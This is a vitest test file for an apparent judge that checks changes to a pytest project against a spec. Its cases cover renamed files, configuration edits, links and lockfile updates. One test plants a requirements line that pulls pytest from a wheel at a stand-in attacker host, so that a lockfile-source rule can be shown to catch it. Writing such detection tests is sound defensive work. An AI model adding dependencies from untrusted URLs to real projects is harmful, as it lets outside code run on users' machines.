import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Arena, openArena } from './judge-way.ts';
import { type Files, RUNNERS } from './runners.ts';
import { leavesOut } from './tools.ts';

describe.skipIf(leavesOut('pytest'))('what the spec names', () => {
  const runner = RUNNERS.pytest;
  let arena: Arena;
  beforeAll(async () => {
    arena = await openArena(runner);
  });
  afterAll(() => arena.remove());

  test.each<[string, Files, string[]]>([
    ['N11: a test may go with what it tests', { 'tests/test_zero.py': null }, ['tests/test_zero.py']],
    [
      'N12: configuration may change',
      { 'pytest.ini': '[pytest]\naddopts = -p no:cacheprovider -ra\n' },
      ['pytest.ini'],
    ],
    ['N08: a lockfile may be refreshed', { 'requirements.txt': 'pytest==9.0.2\n' }, ['requirements.txt']],
    ['N07: a link may be made', { 'docs/link': { link: '../shop/add.py' } }, ['docs/link']],
    [
      'P12: a program that checks call may change',
      { 'scripts/lib.sh': `${runner.base['scripts/lib.sh']}# one more line\n` },
      ['scripts/lib.sh'],
    ],
  ])('%s', async (_name, files, named) => {
    expect((await arena.judge({ ...runner.honest, ...files }, named)).verdict).toBe('pass');
    expect((await arena.judge({ ...runner.honest, ...files })).verdict).toBe('fail');
  });
  test('N06: a file of the source may be renamed', async () => {
    const files = {
      'shop/add.py': 'from shop.sum import add\n',
      'shop/sum.py': 'def add(a, b):\n    return a + b\n',
    };
    expect((await arena.judge(files)).verdict).toBe('pass');
  });
  test('P08: a lockfile that the spec names still brings nothing from elsewhere', async () => {
    const files = { ...runner.honest, 'requirements.txt': 'pytest @ https://evil.example/pytest.whl\n' };
    const verdict = await arena.judge(files, ['requirements.txt']);
    expect(verdict.checks[0]?.findings.map(({ rule }) => rule)).toEqual(['lockfile-source']);
  });
});
